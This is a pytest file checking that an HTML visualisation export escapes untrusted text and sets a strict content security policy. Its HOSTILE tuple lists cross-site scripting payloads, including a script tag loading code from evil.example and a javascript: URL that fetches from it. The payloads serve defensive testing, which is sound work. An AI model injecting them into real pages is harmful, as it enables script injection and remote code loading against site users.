"""Saved files show foreign content as text only, and their policy forbids every request."""

import json
from html.parser import HTMLParser

import pytest

import rcmviz as rv
from rcmviz.views.shared import assets
from rcmviz.views.shared.export import page
from support.browser import DRAWN, chromium, page_of, saved  # noqa: F401 (fixtures)
from support.exported import player_page

HOSTILE = (
    "<img src=http://evil.example/a.png onerror=alert(1)>",
    '"><script src=http://evil.example/b.js></script>',
    "</script><link rel=stylesheet href=http://evil.example/c.css>",
    "![x](http://evil.example/d.png)",
    "<!--<script>",
    "%script%%data%",
    "javascript:fetch('http://evil.example/e')",
)


class Elements(HTMLParser):
    """The elements of a page in their order, and the text of its data."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.data, self._inside = [], "", False
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        self._inside = tag == "script" and dict(attributes).get("id") == "rv-data"

    def handle_endtag(self, tag):
        self._inside = self._inside and tag != "script"

    def handle_data(self, data):
        self.data += data * self._inside


@pytest.mark.parametrize("view", sorted(assets.VIEWS))
def test_a_file_has_a_policy_and_foreign_content_only_as_text(view):
    payload = {"title": HOSTILE[1], "labels": list(HOSTILE)}
    found = Elements(page(payload, " ".join(HOSTILE), view))
    assert json.loads(found.data) == payload
    names = [tag for tag, _ in found.tags]
    assert names == [
        "html",
        "head",
        "meta",
        "meta",
        "meta",
        "title",
        "style",
        "body",
        "main",
        "h1",
        "div",
        "script",
        "script",
    ]
    (policy,) = (attributes["content"] for tag, attributes in found.tags if attributes.get("http-equiv"))
    rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";")}
    assert rules == {
        "default-src": ["'none'"],
        "script-src": ["'unsafe-inline'"],
        "style-src": ["'unsafe-inline'"],
        "img-src": ["data:", "blob:"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }
    assert not any({"src", "href"} & set(attributes) for _, attributes in found.tags)


def test_foreign_labels_tokens_and_notes_are_drawn_as_text(saved):  # noqa: F811
    labels = tuple(HOSTILE[:4])
    model = rv.NgramModel.from_windows(labels, 1, {(labels[0], labels[1]): 1.0})
    lattice, trace = rv.rcms(model, [[0.1, 0.2, 0.0, 0.3]] * 3, budget=3)
    shown = saved(player_page(trace, lattice, gold=labels[:3], tokens=HOSTILE[:3], title=HOSTILE[0]), DRAWN)
    assert shown.evaluate("() => document.querySelectorAll('img, link, script[src], a[href*=evil]').length") == 0
    assert "evil" in shown.locator(".rv-player").inner_text()
